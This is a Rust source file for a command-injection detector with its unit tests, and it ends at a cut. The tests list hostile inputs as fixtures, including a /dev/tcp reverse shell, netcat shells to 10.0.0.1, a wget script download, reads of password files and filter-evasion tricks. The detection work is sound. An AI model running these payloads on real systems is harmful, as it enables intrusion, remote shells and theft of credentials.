//! Command injection: a shell command chained or substituted into a value (`;cat /etc/passwd`, `` `id` ``,
//! `$(whoami)`, `| nc -e /bin/sh 10.0.0.1 4444`), and the evasions that hide one (`${IFS}`, `{cat,/etc/passwd}`,
//! `c'a't`, `w\hoami`, `$@`).
//!
//! # How a value is read
//!
//! One pass over the decoded value looks for the places where a shell would start a command: the start of the
//! value, and after `;`, `|`, `||`, `&&`, `&`, a newline (also the two characters `\n`), a backtick, `$(`, `<(` and
//! `>(`, a brace list `{cmd,arg}`, and the quoted argument of a code call such as `system('…')`. There it reads a
//! command name the way the shell would (quotes, `\`, `^`, `$@`, `$?`, `$()`, `${x}` and empty backticks inside a
//! name vanish; a path such as `/usr/bin/id` or `C:\Windows\System32\cmd.exe` names its last component) and looks
//! it up in a static table of Unix and Windows commands. Unix commands are case-sensitive, so `ID` or `Cat` after a `|` is prose, not a command.
//!
//! Each candidate gets a score, the sum of three parts:
//! - what led to it: start of value 1, a chaining separator (`;`, `|`, `&&`, `||`, `&`, newline, brace list) 2, a
//!   substitution (backtick, `$(`, process substitution, a code call's quoted argument) 3;
//! - the command: an English word too (`cat`, `sleep`, `ping`) 1, short but not English (`id`, `ls`, `nc`) 2,
//!   unmistakable (`whoami`, `wget`, `certutil`) or given as a path (`/bin/sh`) 3;
//! - what follows it: a plain word 0, the end of the command (end of value, a separator, a closing quote or
//!   bracket) 1, another command that is not an English word (`which gcc`), a subcommand of Windows' `net`, `reg`,
//!   `netsh` or `sc` (`net user`, `reg add`), or a flag within the next three words of an unmistakable command
//!   (`ansible all -m ping`) 2, something only a command line has (a flag `-la`, an absolute or drive path, a
//!   redirection, an IPv4 address, a URL, `$VAR` or `%VAR%`, a number after `sleep`/`ping`/`timeout`) 3.
//!
//! A wrapper (`time`, `nohup`, `sudo`, `strace`, `env`, `xargs`…) scores at least what the command it runs would
//! score in its place (`time ifconfig`, `nohup sh -c id`).
//!
//! # What each level reports
//! - **Low**: a score of 6 or more, not at the start of the value (`;cat /etc/passwd`, `| whoami`, `` `id` ``,
//!   `&& ping -n 30 127.0.0.1`), and constructs with no benign reading: `${IFS}` / `$IFS`, a redirection to
//!   `/dev/tcp/` or `/dev/udp/`, a Shellshock function definition `() {`, a server-side include `<!--#exec`, and a
//!   brace list whose first word is a command and whose next looks like a command argument.
//! - **Medium** (recommended) adds: a score of 5 (`;id`, `|ls`, `&sleep 5`), which includes a whole value that is a
//!   command line on its own (`cat /etc/passwd`, `nc -lvp 4444 -e /bin/sh`, `ipconfig /all`, `sleep 5`), a whole
//!   value that is a reconnaissance command alone (`whoami`, `systeminfo`, `pwd`), calls of functions that run
//!   commands or code (`system(…)`, `shell_exec(…)`, `eval(…)`, `phpinfo()`), `<?php`, PHP's `${@…}` / `{${…}}`, and cmd.exe
//!   statements: `FOR %x IN (…) DO …` loops and `IF EXIST|DEFINED|ERRORLEVEL|a==b …` tests followed by a command.
//! - **High** adds: a score of 4 (`; cat`, `| more`, `sudo make me a sandwich`), and any other command name alone
//!   (`base64`, `wget`, `dir`: as likely a setting such as `encoding=base64`).
//!
//! Prose stays clean at every level because a command needs a lead and an argument that only a shell would take:
//! "echo in the mirror", "bash away in the gym", "ls 300 lexus", "Tom & Jerry; cats", "a|b".
//!
//! Linear in the value's length: each lead reads at most a bounded window ahead. No allocation.

pub(super) mod lexicon;

use super::{Sensitivity, Subject};
use lexicon::{cmd, has_at, is_word, lc};

/// The longest command name read (a longer word is not a command).
const MAX_NAME: usize = 48;
/// The longest leading run of blanks and quotes skipped before a command name.
const MAX_LEAD_SKIP: usize = 16;

/// Score levels: what a score or a construct needs to be reported at each sensitivity.
const LOW: u8 = 6;
/// See [`LOW`].
const MEDIUM: u8 = 5;
/// See [`LOW`].
const HIGH: u8 = 4;

/// What led to a command position, with its score.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Lead {
    /// The start of the value: the whole value would have to be a command line.
    Start = 1,
    /// `;`, `|`, `||`, `&&`, `&`, a newline or a brace list.
    Chain = 2,
    /// A backtick, `$(`, `<(`, `>(`, or the quoted argument of a code call.
    Subst = 3,
}

/// Whether `subject` carries a command injection at `sensitivity`.
pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
    let need = match sensitivity {
        Sensitivity::Low => LOW,
        Sensitivity::Medium => MEDIUM,
        Sensitivity::High => HIGH,
    };
    scan(subject.decoded, subject.lower, need)
}

/// Whether `text` (with `lower`, its lower-case copy) reaches `need` anywhere.
fn scan(cased: &[u8], lower: &[u8], need: u8) -> bool {
    let text = lower;
    let n = text.len();
    if candidate(cased, text, 0, Lead::Start) >= need {
        return true;
    }
    // A code call is a word before a `(`: look back from each `(` rather than at every word.
    for open in memchr::memchr_iter(b'(', text) {
        let mut end = open;
        while end > 0 && lc(text, end - 1) == b' ' {
            end -= 1;
        }
        let mut start = end;
        while start > 0 && is_word(lc(text, start - 1)) && end - start <= 24 {
            start -= 1;
        }
        let word_start = start == 0 || !is_word(lc(text, start - 1));
        if start < end && word_start && lc(text, start).is_ascii_lowercase() && code_call(cased, text, start) >= need {
            return true;
        }
    }
    let mut i = 0;
    while i < n {
        // Jump to the next byte that can lead somewhere: a shell operator, or the `f` of `FOR` and `i` of `IF`.
        let rest = text.get(i..).unwrap_or_default();
        let Some(at) = rest.iter().position(|&b| LEADS.get(usize::from(b)).copied().unwrap_or(true)) else {
            break;
        };
        i += at;
        let b = lc(text, i);
        if matches!(b, b'f' | b'i') {
            if (i == 0 || !is_word(lc(text, i - 1))) && batch(text, i) && MEDIUM >= need {
                return true;
            }
            i += 1;
            continue;
        }
        let next = lc(text, i + 1);
        let level = match b {
            b';' | b'\n' | b'\r' => candidate(cased, text, i + 1, Lead::Chain),
            b'|' if next == b'|' => {
                i += 1;
                candidate(cased, text, i + 1, Lead::Chain)
            }
            b'|' => candidate(cased, text, i + 1, Lead::Chain),
            b'&' if next == b'&' => {
                i += 1;
                candidate(cased, text, i + 1, Lead::Chain)
            }
            b'&' => candidate(cased, text, i + 1, Lead::Chain),
            b'`' => candidate(cased, text, i + 1, Lead::Subst),
            b'$' => dollar(cased, text, i),
            b'<' | b'>' if next == b'(' => candidate(cased, text, i + 2, Lead::Subst),
            b'<' if has_at(text, i, b"<!--#exec") => LOW,
            b'<' if has_at(text, i, b"<?php") => MEDIUM,
            b'{' if next == b'$' && lc(text, i + 2) == b'{' => MEDIUM,
            b'{' => brace(cased, text, i + 1),
            b'(' if next == b')' && shellshock(text, i + 2) => LOW,
            b'\\' if next == b'n' || next == b'r' => candidate(cased, text, i + 2, Lead::Chain),
            b'/' if has_at(text, i, b"/dev/tcp/") || has_at(text, i, b"/dev/udp/") => LOW,
            _ => 0,
        };
        if level >= need {
            return true;
        }
        i += 1;
    }
    false
}

/// The bytes [`scan`] reads something at (code calls aside): shell operators, and `f` and `i` (lower case) for
/// cmd.exe's `FOR` and `IF`. The others (letters, blanks, most punctuation, UTF-8) are skipped.
// Evaluated at compile time: an index out of range fails the build, it cannot panic at run time.
#[allow(clippy::indexing_slicing)]
static LEADS: [bool; 256] = {
    let mut table = [false; 256];
    let leads = b";\n\r|&`$<>{(\\/fi";
    let mut k = 0;
    while k < leads.len() {
        table[leads[k] as usize] = true;
        k += 1;
    }
    table
};

/// `$(…)`, `${IFS}`, `$IFS`, and PHP's `${@…}` at `i` (a `$`).
fn dollar(cased: &[u8], text: &[u8], i: usize) -> u8 {
    match lc(text, i + 1) {
        b'(' => candidate(cased, text, i + 2, Lead::Subst),
        b'{' if has_at(text, i + 2, b"ifs}") => LOW,
        b'{' if lc(text, i + 2) == b'@' => MEDIUM,
        b'i' if has_at(text, i + 1, b"ifs") && !is_word(lc(text, i + 4)) => LOW,
        _ => 0,
    }
}

/// How far a cmd.exe `FOR` or `IF` statement is read.
const BATCH_WINDOW: usize = 200;

/// A cmd.exe `FOR %x IN (…) DO …` loop or an `IF EXIST|DEFINED|ERRORLEVEL|a==b … command` test at `i`.
fn batch(text: &[u8], i: usize) -> bool {
    let end = text.len().min(i + BATCH_WINDOW);
    let window = text.get(i..end).unwrap_or_default();
    if has_at(window, 0, b"for") && matches!(lc(window, 3), b' ' | b'\t') {
        // A loop variable (`%G`, `%%G`) right before `IN (set)`, then `DO`.
        let Some(mut var) = find(window, 4, b"%") else {
            return false;
        };
        if lc(window, var + 1) == b'%' {
            var += 1;
        }
        let name = lc(window, var + 1);
        if matches!(name, 0 | b' ' | b'\t') || !matches!(lc(window, var + 2), b' ' | b'\t') {
            return false;
        }
        let Some(at) = skip_blanks(window, var + 2) else {
            return false;
        };
        if !has_at(window, at, b"in") || is_word(lc(window, at + 2)) {
            return false;
        }
        let Some(open) = skip_blanks(window, at + 2) else {
            return false;
        };
        if lc(window, open) != b'(' {
            return false;
        }
        return find(window, open, b")").and_then(|close| find_word(window, close + 1, b"do")).is_some();
    }
    if has_at(window, 0, b"if") && matches!(lc(window, 2), b' ' | b'\t') {
        let mut j = skip_blanks(window, 3).unwrap_or(window.len());
        for prefix in [&b"/i"[..], b"not"] {
            if has_at(window, j, prefix) && matches!(lc(window, j + prefix.len()), b' ' | b'\t') {
                j = skip_blanks(window, j + prefix.len()).unwrap_or(window.len());
            }
        }
        let keyword = [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"]
            .iter()
            .any(|k| has_at(window, j, k) && matches!(lc(window, j + k.len()), b' ' | b'\t'));
        return keyword_then_action(window, j, keyword);
    }
    false
}

/// One pass over an `IF` statement's rest from `j`: a comparison (`==`, `EQU`, `GTR`…) unless `condition` already
/// holds, then a command (`ECHO`, `GOTO`, `CMD`, `CALL`, `SET`…) or a parenthesised block.
fn keyword_then_action(window: &[u8], mut j: usize, mut condition: bool) -> bool {
    let mut previous = 0u8;
    while j < window.len() {
        let b = lc(window, j);
        if is_word(b) && !is_word(previous) {
            let start = j;
            while is_word(lc(window, j)) {
                j += 1;
            }
            let word = window.get(start..j).unwrap_or_default();
            if condition && [&b"echo"[..], b"goto", b"cmd", b"call", b"set", b"del", b"start", b"exit"].contains(&word)
            {
                return true;
            }
            condition |= [&b"equ"[..], b"neq", b"lss", b"leq", b"gtr", b"geq"].contains(&word);
            previous = b'a';
            continue;
        }
        if b == b'(' && condition {
            return true;
        }
        condition |= b == b'=' && previous == b'=';
        previous = b;
        j += 1;
    }
    false
}

/// The first `needle` in `hay` at or after `from`.
fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    let rest = hay.get(from..)?;
    rest.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle)).map(|p| p + from)
}

/// The first `word` in `hay` at or after `from` that stands alone (not inside a longer word).
fn find_word(hay: &[u8], mut from: usize, word: &[u8]) -> Option<usize> {
    while let Some(at) = find(hay, from, word) {
        let before = at == 0 || !is_word(lc(hay, at - 1));
        if before && !is_word(lc(hay, at + word.len())) {
            return Some(at);
        }
        from = at + 1;
    }
    None
}

/// The first byte at or after `i` that is not a blank, if any.
fn skip_blanks(text: &[u8], mut i: usize) -> Option<usize> {
    while matches!(lc(text, i), b' ' | b'\t') {
        i += 1;
    }
    (i < text.len()).then_some(i)
}

/// `() {` at the start of a Shellshock function definition (`i` is just after `()`).
fn shellshock(text: &[u8], mut i: usize) -> bool {
    while lc(text, i) == b' ' {
        i += 1;
    }
    lc(text, i) == b'{'
}

/// A brace list `{cmd,arg,…}` (bash runs it as `cmd arg`), `i` just after the `{`.
fn brace(cased: &[u8], text: &[u8], mut i: usize) -> u8 {
    // `{,ifconfig}`: an empty first word is dropped.
    if lc(text, i) == b',' {
        i += 1;
    }
    let Some((strength, _, end)) = command_at(cased, text, i) else {
        return 0;
    };
    if lc(text, end) != b',' {
        return 0;
    }
    let score = Lead::Chain as u8 + strength + argument(text, end + 1, 0);
    // The braces and comma only make sense to a shell: any command with a command-like argument is unmistakable.
    if score >= MEDIUM {
        LOW
    } else {
        score
    }
}

/// A call of a function that runs a command or code, at `i` (the start of a word).
fn code_call(cased: &[u8], text: &[u8], i: usize) -> u8 {
    let mut end = i;
    while is_word(lc(text, end)) && end - i < 24 {
        end += 1;
    }
    let mut j = end;
    while lc(text, j) == b' ' {
        j += 1;
    }
    // The `(` first: it rejects almost every word before the table is searched.
    if lc(text, j) != b'(' || is_word(lc(text, end)) || !lexicon::code_call(text.get(i..end).unwrap_or_default()) {
        return 0;
    }
    let mut k = j + 1;
    while lc(text, k) == b' ' {
        k += 1;
    }
    let quoted = matches!(lc(text, k), b'\'' | b'"' | b'`');
    // `system (see above)` is prose; `system('id')`, `system ("id")` and `system($cmd)` are code.
    let call = if j == end || quoted || lc(text, k) == b'$' { MEDIUM } else { 0 };
    let inner = if quoted { candidate(cased, text, k + 1, Lead::Subst) } else { 0 };
    call.max(inner)
}

/// The score of a command read at `i`, led there by `lead` (0 if there is no command).
fn candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead) -> u8 {
    wrapped_candidate(cased, text, i, lead, 0)
}

/// [`candidate`], following up to two wrappers (`time`, `nohup`, `sudo`…) to the command they run.
fn wrapped_candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead, depth: u8) -> u8 {
    let Some(start) = skip_lead(text, i) else {
        return 0;
    };
    let Some((strength, flags, mut end)) = command_at(cased, text, start) else {
        return 0;
    };
    // `'curl' http://…`: the quote that opened the name closes it; what follows is the argument.
    let quote = lc(text, end);
    if matches!(quote, b'\'' | b'"') && start > 0 && lc(text, start - 1) == quote {
        end += 1;
    }
    let mut arg = argument(text, end, flags).max(subcommand(text, start, end));
    // `ansible all -m ping`: an unmistakable command with a flag a little further on.
    if arg == 0 && strength == 3 && later_flag(text, end) {
        arg = 2;
    }
    let mut score = lead as u8 + strength + arg;
    if flags & cmd::WRAP != 0 && depth < 2 {
        // `time ifconfig`, `nohup sh -c id`: the wrapped command counts as if it stood in the wrapper's place.
        let mut next = end;
        while matches!(lc(text, next), b' ' | b'\t') {
            next += 1;
        }
        score = score.max(wrapped_candidate(cased, text, next, lead, depth + 1));
    }
    if lead != Lead::Start {
        return score;
    }
    // A value that is only a reconnaissance command (`whoami`, `systeminfo`) has no other reading.
    let alone = arg == 1 && rest_is_blank(text, end);
    if alone && flags & cmd::SOLO != 0 {
        return MEDIUM;
    }
    // Any other bare name is as likely a setting (`encoding=base64`, `tool=wget`) as a command.
    if alone {
        return score.min(HIGH);
    }
    // At the start of a value there is no injection point to see: never unmistakable.
    score.min(MEDIUM)
}

/// Whether one of the next three words after `i` (up to a separator) is a flag (`-m`, `--url`).
fn later_flag(text: &[u8], mut i: usize) -> bool {
    for _ in 0..3 {
        while matches!(lc(text, i), b' ' | b'\t') {
            i += 1;
        }
        if lc(text, i) == b'-' && flag(text, i) == 3 {
            return true;
        }
        let start = i;
        while !matches!(lc(text, i), 0 | b' ' | b'\t' | b';' | b'|' | b'&' | b'\n') && i - start < 32 {
            i += 1;
        }
        if i == start {
            return false;
        }
    }
    false
}

/// 2 when the word after the command at `start..end` is one of its subcommands (`net user`, `reg add`), else 0.
fn subcommand(text: &[u8], start: usize, end: usize) -> u8 {
    let Some(name) = text.get(start..end) else {
        return 0;
    };
    let Some((_, subs)) = lexicon::SUBCOMMANDS.iter().find(|(command, _)| command.eq_ignore_ascii_case(name)) else {
        return 0;
    };
    let mut i = end;
    while lc(text, i) == b' ' {
        i += 1;
    }
    let mut j = i;
    while lc(text, j).is_ascii_alphabetic() && j - i < 16 {
        j += 1;
    }
    let word = text.get(i..j).unwrap_or_default();
    // Worth a little less than a flag: "net user growth" is still prose.
    if j > end && !is_word(lc(text, j)) && subs.iter().any(|sub| sub.eq_ignore_ascii_case(word)) {
        2
    } else {
        0
    }
}

/// Skips blanks, quotes, `(` and an unset variable (`|$u wget`) before a command name; `None` if too many.
fn skip_lead(text: &[u8], mut i: usize) -> Option<usize> {
    let start = i;
    loop {
        match lc(text, i) {
            b' ' | b'\t' | b'\'' | b'"' | b'(' => i += 1,
            b'$' if lc(text, i + 1).is_ascii_alphabetic() => {
                let mut j = i + 1;
                while is_word(lc(text, j)) && j - i < 8 {
                    j += 1;
                }
                if !matches!(lc(text, j), b' ' | b'\t') {
                    return Some(i);
                }
                i = j;
            }
            _ => return Some(i),
        }
        if i - start > MAX_LEAD_SKIP {
            return None;
        }
    }
}

/// Whether only blanks and quotes follow `i`.
fn rest_is_blank(text: &[u8], i: usize) -> bool {
    text.get(i..).unwrap_or_default().iter().all(|b| matches!(b, b' ' | b'\t' | b'\'' | b'"' | b'\r' | b'\n'))
}

/// Reads a command name at `i` as a shell would, returning its strength (1–3), its flags and where the name ends.
fn command_at(cased: &[u8], text: &[u8], i: usize) -> Option<(u8, u8, usize)> {
    let mut buf = [0u8; MAX_NAME];
    let mut len = 0;
    let mut upper = false;
    let mut j = i;
    loop {
        let c = lc(text, j);
        let next = lc(text, j + 1);
        let step = match c {
            b'a'..=b'z' | b'0'..=b'9' | b'_' | b'-' | b'.' | b':' | b'/' => {
                upper |= cased.get(j).is_some_and(u8::is_ascii_uppercase);
                let slot = buf.get_mut(len)?;
                *slot = c;
                len += 1;
                1
            }
            // `\n` written out ends the name (`;id\n`); `w\hoami` is `whoami`; `C:\Windows` is a path.
            b'\\' if matches!(next, b'n' | b'r' | b't') && !is_word(lc(text, j + 2)) => break,
            b'\\' if next.is_ascii_alphanumeric() => {
                let slot = buf.get_mut(len)?;
                *slot = b'\\';
                len += 1;
                1
            }
            // Quotes inside a name vanish (`c'a't`); `$@`, `$*` and `$1` expand to nothing; `^` escapes in cmd.exe.
            b'\'' | b'"' if len > 0 && is_word(next) => 1,
            b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9' | b'?' | b'!' | b'-' | b'#') => 2,
            // An empty backtick pair inside a name (`pi``ng`).
            b'`' if next == b'`' && len > 0 => 2,
            // `$()` and `${x}` expand to nothing inside a name (`pi$()ng`, `c${u}url`).
            b'$' if next == b'(' && lc(text, j + 2) == b')' => 3,
            b'$' if next == b'{' => match (j + 2..j + 18).find(|&k| lc(text, k) == b'}') {
                Some(close) if (j + 2..close).all(|k| is_word(lc(text, k))) => close + 1 - j,
                _ => break,
            },
            b'^' if is_word(next) => 1,
            _ => break,
        };
        j += step;
    }
    // A name runs into a letter of another script (`scène`): part of a longer word, not a command.
    if lc(text, j) >= 0x80 {
        return None;
    }
    let word = buf.get(..len)?;
    let (flags, is_path) = lookup(word)?;
    if upper && flags & cmd::WIN == 0 {
        return None;
    }
    let strength = if is_path { 3 } else { flags & cmd::STRENGTH };
    Some((strength, flags, j))
}

/// Looks a word up as a command name or as a path to one; returns the flags and whether it was a path.
fn lookup(word: &[u8]) -> Option<(u8, bool)> {
    if contains(word, b"://") {
        return None;
    }
    let base_start = word.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(0, |p| p + 1);
    if base_start > 0 {
        let base = word.get(base_start..)?;
        let base = strip_suffix(strip_suffix(base, b".exe"), b".com");
        let rooted = matches!(word.first(), Some(b'/' | b'\\' | b'.' | b'~'))
            || word.get(1) == Some(&b':')
            || contains(word, b"bin/")
            || contains(word, b"bin\\")
            || contains(word, b"system32");
        if rooted {
            if let Some(flags) = lexicon::command(base) {
                return Some((flags, true));
            }
        }
    }
    // `w\hoami`: the backslashes vanish.
    let mut plain = [0u8; MAX_NAME];
    let mut len = 0;
    for &b in word.iter().filter(|&&b| b != b'\\') {
        *plain.get_mut(len)? = b;
        len += 1;
    }
    let plain = plain.get(..len)?;
    let plain = strip_suffix(plain, b".exe");
    lexicon::command(plain).map(|flags| (flags, false))
}

/// `word` without `suffix` at its end.
fn strip_suffix<'a>(word: &'a [u8], suffix: &[u8]) -> &'a [u8] {
    word.strip_suffix(suffix).unwrap_or(word)
}

/// Whether `hay` contains `needle`.
fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// How much the argument at `i` says "command line": 0 a word, 1 the end of the command, 3 a flag, path,
/// redirection, address, URL or variable (and a number after `sleep`-like commands).
fn argument(text: &[u8], mut i: usize, flags: u8) -> u8 {
    // Blanks, and `${IFS}` / `$IFS$9` used as blanks.
    loop {
        match lc(text, i) {
            b' ' | b'\t' => i += 1,
            b'$' if has_at(text, i, b"${ifs}") => i += 6,
            b'$' if has_at(text, i, b"$ifs") => {
                i += 4;
                if lc(text, i) == b'$' && lc(text, i + 1).is_ascii_digit() {
                    i += 2;
                }
            }
            _ => break,
        }
    }
    let c = lc(text, i);
    let next = lc(text, i + 1);
    match c {
        0 if i >= text.len() => 1,
        b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'}' | b'#' => 1,
        b'\\' if matches!(next, b'n' | b'r') => 1,
        b'\'' | b'"' => match next {
            0 | b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b' ' => 1,
            b'-' | b'/' | b'<' | b'>' | b'$' | b'%' => argument(text, i + 1, flags),
            _ => 0,
        },
        b'-' => flag(text, i),
        b'/' if next.is_ascii_alphanumeric() || matches!(next, b'.' | b'*' | b'~') => 3,
        b'\\' if next.is_ascii_alphanumeric() || next == b'\\' => 3,
        b'~' | b'.' if matches!(next, b'/' | b'\\' | b'.') => 3,
        b'<' | b'>' => 3,
        b'$' if next.is_ascii_alphabetic() || matches!(next, b'{' | b'(' | b'_') => 3,
        b'%' if percent_var(text, i) => 3,
        b'a'..=b'z' if next == b':' && matches!(lc(text, i + 2), b'\\' | b'/') => 3,
        b'a'..=b'z' if url_scheme(text, i) => 3,
        b'0'..=b'9' => number(text, i, flags),
        b'*' => 2,
        b'a'..=b'z' => runs_command(text, i),
        _ => 0,
    }
}

/// 2 when the word at `i` is itself a command that is not an English word (`time ifconfig`, `sudo nc`).
fn runs_command(text: &[u8], i: usize) -> u8 {
    let mut j = i;
    while (is_word(lc(text, j)) || lc(text, j) == b'-') && j - i < 24 {
        j += 1;
    }
    let word = text.get(i..j).unwrap_or_default();
    match lexicon::command(word) {
        Some(flags) if flags & cmd::STRENGTH >= 2 && !is_word(lc(text, j)) => 2,
        _ => 0,
    }
}

/// A command-line flag at `i` (a `-`): `-la`, `--help`, `-e`, ended by a blank, `=` or the end.
fn flag(text: &[u8], i: usize) -> u8 {
    let mut j = i + 1;
    if lc(text, j) == b'-' {
        j += 1;
    }
    let start = j;
    while lc(text, j).is_ascii_alphanumeric() && j - start < 16 {
        j += 1;
    }
    let ends = matches!(
        lc(text, j),
        0 | b' ' | b'\t' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b'\n' | b'}' | b')' | b',' | b'`' | b':'
    );
    if j > start && ends && lc(text, start).is_ascii_alphabetic() {
        3
    } else {
        0
    }
}

/// A Windows variable `%NAME%` at `i`.
fn percent_var(text: &[u8], i: usize) -> bool {
    let mut j = i + 1;
    while is_word(lc(text, j)) && j - i < 32 {
        j += 1;
    }
    j > i + 1 && lc(text, j) == b'%'
}

/// A URL scheme (`http://`, `ftp://`) at `i`.
fn url_scheme(text: &[u8], i: usize) -> bool {
    let mut j = i;
    while lc(text, j).is_ascii_alphanumeric() && j - i < 10 {
        j += 1;
    }
    has_at(text, j, b"://")
}

/// A number at `i`: an IPv4 address is a command argument; a plain number only after `sleep`-like commands.
fn number(text: &[u8], i: usize, flags: u8) -> u8 {
    let mut j = i;
    let mut dots = 0;
    while j - i < 40 {
        match lc(text, j) {
            b'0'..=b'9' => j += 1,
            b'.' if lc(text, j + 1).is_ascii_digit() => {
                dots += 1;
                j += 1;
            }
            _ => break,
        }
    }
    if dots == 3 || (lc(text, j) == b'>' && j - i == 1) || flags & cmd::NUMBER != 0 {
        3
    } else {
        0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(text: &str, level: Sensitivity) -> bool {
        let lower = text.to_ascii_lowercase();
        detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), super::super::Place::Query), level)
    }

    /// The lowest level that reports `text` (`None`: not even High).
    fn lowest(text: &str) -> Option<Sensitivity> {
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|&l| at(text, l))
    }

    #[test]
    fn chained_and_substituted_commands_are_unmistakable() {
        for attack in [
            ";cat /etc/passwd",
            "x; uname -a",
            "1 | whoami",
            "q`id`",
            "$(whoami)",
            "abc && ping -n 30 127.0.0.1",
            "a || /usr/bin/id",
            "name\n/bin/ls -al",
            "file.txt;ls -la /var/www",
            "`/bin/sleep 5`",
            "q=1;netstat -an",
            "x|type C:\\Windows\\win.ini",
            "x & dir c:\\users",
            "diff <(cat /etc/shadow) x",
            "abc;wget http://10.0.0.1/x.sh",
            "abc; C:\\Windows\\System32\\cmd.exe /c dir",
            "eval('ls')",
            "system(\"cat /etc/hosts\")",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Low), "{attack}");
        }
    }

    #[test]
    fn evasions_are_unmistakable() {
        for attack in [
            "cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "{cat,/etc/passwd}",
            ";{ls,-la}",
            ";c'a't /etc/passwd",
            "|w\\hoami",
            "|wh$@oami",
            "|who^ami",
            ";pi$()ng -c 1 10.0.0.1",
            ";c${u}url http://10.0.0.1/x",
            "{,ifconfig,-a}",
            ";c$?at /etc/passwd",
            ";'curl' http://10.0.0.1/x",
            "|$u wget http://10.0.0.1/x",
            ";vim -c:!pwd",
            "() { :;}; echo vulnerable",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "<!--#exec cmd=\"ls\"-->",
            "a\\n/usr/bin/id\\n",
            "x;\"/usr/bin/id\"",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Low), "{attack}");
        }
    }

    #[test]
    fn weaker_forms_wait_for_medium_or_high() {
        for attack in [
            ";id",
            "a|id",
            "ls -la /etc",
            "nc -lvvp 4444 -e /bin/sh",
            "whoami",
            "pwd",
            "& dir",
            "ipconfig /all",
            "cat /etc/passwd",
            "sleep 5",
            "; net user admin P4ss /add",
            "reg add HKLM\\Software\\x /f",
            "time ifconfig",
            "nohup sh -c whoami",
            "ansible all -m ping",
            "ll /var/www/",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
        }
        for attack in [
            "FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G",
            "x & for %a in (a,b) do cmd",
            "IF EXIST C:\\pagefile.sys (CMD)",
            "if %ERRORLEVEL% NEQ 0 echo failed",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
        }
        for attack in ["phpinfo()", "system($_GET['c'])", "<?php echo 1; ?>", "${@print(1)}", "{${sleep(1)}}"] {
            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
        }
        for attack in [
            "; cat",
            "x | more",
            "dir",
            "; bash",
            "net user growth",
            "x | nice",
            "sudo make me a sandwich",
            "base64",
            "wget",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::High), "{attack}");
        }
    }

    #[test]
    fn prose_and_api_values_pass_at_every_level() {
        for benign in [
            "bash away in the gym",
            "echo in the mirror",
            "ls 300 lexus",
            "nc 8000 controller",
            "Tom & Jerry; cats",
            "a|b",
            "curl and divergence",
            "zsh is the best!",
            "Name | ID | Email",
            "Sa; Su",
            "price=10&currency=eur",
            "O'Brien & Sons; est. 1990",
            "select a plan; drop-down",
            "https://example.com/a?b=c&d=e",
            "the system (see above) works",
            "user@example.com",
            "{id}",
            "{cats,dogs}",
            "Which one is it; the cat or the dog?",
            "Rock & Roll | Jazz",
            "2024-01-01T10:00:00Z",
            "Tom & Jerry; Cat lovers",
            "time and again",
            "/que/sortir/marcher/scène.jpeg",
            "Terms & Conditions; more info",
            "for 100% of users in (most) cases we do well",
            "if red equals red then echo it",
            "If it exists, call me",
            "the net effect",
        ] {
            assert_eq!(lowest(benign), None, "{benign}");
        }
    }

    #[test]
    fn long_repetitive_values_are_read_in_one_pass() {
        // Each read looks a bounded window ahead, so these finish in one pass; a quadratic reading would hang here.
        for unit in
            [";", "|", "$(", "`", "{a,", "if if ", "for %a in (", "system('", "w\\", "\\n", "${IFS}", "() {", "c'"]
        {
            let text = unit.repeat(16 * 1024 / unit.len());
            let lower = text.to_ascii_lowercase();
            for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                let _ = detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), crate::attacks::Place::Query), level);
            }
        }
    }

    /// [`scan`] testing every byte, as it did before it skipped words and inert bytes.
    fn scan_every_byte(cased: &[u8], text: &[u8], need: u8) -> bool {
        if candidate(cased, text, 0, Lead::Start) >= need {
            return true;
        }
        let mut i = 0;
        while i < text.len() {
            let next = lc(text, i + 1);
            let level = match lc(text, i) {
                b';' | b'\n' | b'\r' => candidate(cased, text, i + 1, Lead::Chain),
                b'|' | b'&' => {
                    if next == lc(text, i) {
                        i += 1;
                    }
                    candidate(cased, text, i + 1, Lead::Chain)
                }
                b'`' => candidate(cased, text, i + 1, Lead::Subst),
                b'$' => dollar(cased, text, i),
                b'<' | b'>' if next == b'(' => candidate(cased, text, i + 2, Lead::Subst),
                b'<' if has_at(text, i, b"<!--#exec") => LOW,
                b'<' if has_at(text, i, b"<?php") => MEDIUM,
                b'{' if next == b'$' && lc(text, i + 2) == b'{' => MEDIUM,
                b'{' => brace(cased, text, i + 1),
                b'(' if next == b')' && shellshock(text, i + 2) => LOW,
                b'\\' if next == b'n' || next == b'r' => candidate(cased, text, i + 2, Lead::Chain),
                b'/' if has_at(text, i, b"/dev/tcp/") || has_at(text, i, b"/dev/udp/") => LOW,
                b'f' | b'i' if (i == 0 || !is_word(lc(text, i - 1))) && batch(text, i) => MEDIUM,
                b'a'..=b'z' if i == 0 || !is_word(lc(text, i - 1)) => code_call(cased, text, i),
                _ => 0,
            };
            if level >= need {
                return true;
            }
            i += 1;
        }
        false
    }

    #[test]
